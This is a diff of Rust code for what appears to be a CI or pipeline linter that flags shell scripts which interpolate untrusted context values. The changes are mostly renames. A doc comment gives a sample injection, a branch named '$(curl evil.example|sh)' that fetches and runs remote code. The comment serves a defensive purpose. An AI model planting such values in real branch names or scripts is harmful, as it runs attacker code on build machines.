@@ -2,8 +2,9 @@
 //! script. A branch may be called `$(curl evil.example|sh)`.
 
 use super::rewrite::{self, Replaced};
-use crate::plan::check::uses::{Role, Use, Uses};
-use crate::plan::diagnostic::{Diagnostic, SHOWN};
+use crate::plan::check::uses::{Use, Uses};
+use crate::plan::describe::Exposure;
+use crate::plan::diagnostic::{Diagnostic, MAX_SHOWN};
 use crate::plan::expr::ContextRef;
 use crate::plan::schema::{Action, Map, Run, Script, Text};
 
@@ -11,12 +12,12 @@ pub(super) fn check(uses: &Uses<'_>, found: &mut Vec<Diagnostic>) {
     let mut rest = uses.all.as_slice();
     while let Some(first) = rest.first() {
         let same = |one: &&Use<'_>| {
-            one.place.step == first.place.step && one.place.role == first.place.role
+            one.place.step == first.place.step && one.place.exposure == first.place.exposure
         };
         let many = rest.iter().take_while(same).count();
         let (step, after) = rest.split_at(many);
         rest = after;
-        if first.place.role == Role::Script {
+        if first.place.exposure == Exposure::Script {
             script(uses, step, found);
         }
     }
@@ -26,7 +27,7 @@ pub(super) fn check(uses: &Uses<'_>, found: &mut Vec<Diagnostic>) {
 fn script(uses: &Uses<'_>, step: &[Use<'_>], found: &mut Vec<Diagnostic>) {
     // More than are shown at all would be a long help each, and never be read.
     let dangerous: Vec<(&Use<'_>, &ContextRef)> =
-        step.iter().filter_map(|one| Some((one, culprit(uses, one)?))).take(SHOWN).collect();
+        step.iter().filter_map(|one| Some((one, culprit(uses, one)?))).take(MAX_SHOWN).collect();
     let Some((text, env)) = dangerous.first().and_then(|(one, _)| script_of(uses, one)) else {
         return;
     };
@@ -65,7 +66,7 @@ fn script_of<'p>(uses: &Uses<'p>, one: &Use<'_>) -> Option<(&'p Text, &'p Map<Te
     let (_, service) = uses.service_at(one.place)?;
     let step = service.steps.get(one.place.step?.1)?;
     match &step.action {
-        Action::Run(Run { script: Script::Shell(text), .. }) => Some((text, &step.env)),
+        Action::Run(Run { script: Script::Shell(text) }) => Some((text, &step.env)),
         Action::Run(_)
         | Action::Build(_)
         | Action::Tag(_)
